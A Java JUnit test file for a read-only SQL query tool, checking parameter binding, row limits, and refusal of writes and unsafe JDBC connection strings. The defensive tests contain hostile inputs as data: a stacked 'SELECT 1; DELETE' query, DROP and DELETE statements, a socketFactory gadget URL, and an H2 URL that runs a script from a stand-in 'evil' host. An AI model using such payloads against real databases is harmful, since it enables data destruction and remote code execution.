package io.switchboard.tools.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.switchboard.tools.invoke.ToolFailure;
import jakarta.json.JsonObject;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

class SqlRunnerTest {

    private static final String URL = "jdbc:h2:mem:sqlrunner;DB_CLOSE_DELAY=-1";
    private static final SqlRunner.Target TARGET = new SqlRunner.Target("test", URL, "sa", "");
    private static Connection keeper;

    @BeforeAll
    static void create() throws Exception {
        keeper = DriverManager.getConnection(URL, "sa", "");
        try (Statement s = keeper.createStatement()) {
            s.execute("CREATE TABLE orders (id INT PRIMARY KEY, customer VARCHAR(20), total DECIMAL(10,2))");
            for (int i = 1; i <= 30; i++) {
                s.execute("INSERT INTO orders VALUES (" + i + ", 'c" + (i % 3) + "', " + (i * 10) + ".5)");
            }
        }
    }

    @AfterAll
    static void drop() throws Exception {
        keeper.close();
    }

    @Test
    void queriesReturnColumnsAndRowsWithBoundParameters() {
        JsonObject result = SqlRunner.query(TARGET, "SELECT id, total FROM orders WHERE customer = :customer ORDER BY id",
                List.of("c1"), 100, 5);
        assertThat(result.getJsonArray("columns").toString()).isEqualTo("[\"ID\",\"TOTAL\"]");
        assertThat(result.getInt("rowCount")).isEqualTo(10);
        assertThat(result.getJsonArray("rows").getJsonArray(0).toString()).isEqualTo("[1,10.50]");
        assertThat(result.getBoolean("truncated")).isFalse();
    }

    @Test
    void rowsAreCutAtTheLimit() {
        JsonObject result = SqlRunner.query(TARGET, "SELECT * FROM orders", List.of(), 7, 5);
        assertThat(result.getInt("rowCount")).isEqualTo(7);
        assertThat(result.getBoolean("truncated")).isTrue();
    }

    @Test
    void writesNeverRunAndNothingChanges() throws Exception {
        for (String sql : List.of("DELETE FROM orders", "UPDATE orders SET total = 0", "DROP TABLE orders",
                "SELECT 1; DELETE FROM orders", "INSERT INTO orders VALUES (99, 'x', 1)")) {
            assertThatThrownBy(() -> SqlRunner.query(TARGET, sql, List.of(), 10, 5)).as(sql)
                    .isInstanceOf(ToolFailure.class).hasMessageStartingWith("Refused");
        }
        try (Statement s = keeper.createStatement(); var rs = s.executeQuery("SELECT COUNT(*), SUM(total) FROM orders")) {
            rs.next();
            assertThat(rs.getInt(1)).isEqualTo(30);
        }
    }

    @Test
    void sqlErrorsComeBackAsFailures() {
        assertThatThrownBy(() -> SqlRunner.query(TARGET, "SELECT nope FROM orders", List.of(), 10, 5))
                .isInstanceOf(ToolFailure.class).hasMessageContaining("NOPE");
    }

    @Test
    void namedParametersSkipStringsCommentsAndCasts() {
        NamedParameters parsed = NamedParameters.parse(
                "SELECT ':no', x::text FROM t -- :comment\nWHERE a = :a AND b = :b /* :c */ AND c = :a");
        assertThat(parsed.names()).containsExactly("a", "b", "a");
        assertThat(parsed.jdbcSql()).contains("':no'", "x::text", "a = ?", "b = ?", "-- :comment", "/* :c */");
    }

    @Test
    void dangerousJdbcUrlsAreRefused() {
        assertThat(JdbcUrls.refusal("jdbc:postgresql://db:5432/app")).isNull();
        assertThat(JdbcUrls.refusal("jdbc:postgresql://db/app?socketFactory=org.springframework.X")).isNotNull();
        assertThat(JdbcUrls.refusal("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")).isNotNull();
        assertThat(JdbcUrls.refusal("jdbc:mysql://db/app")).contains("only");
    }
}
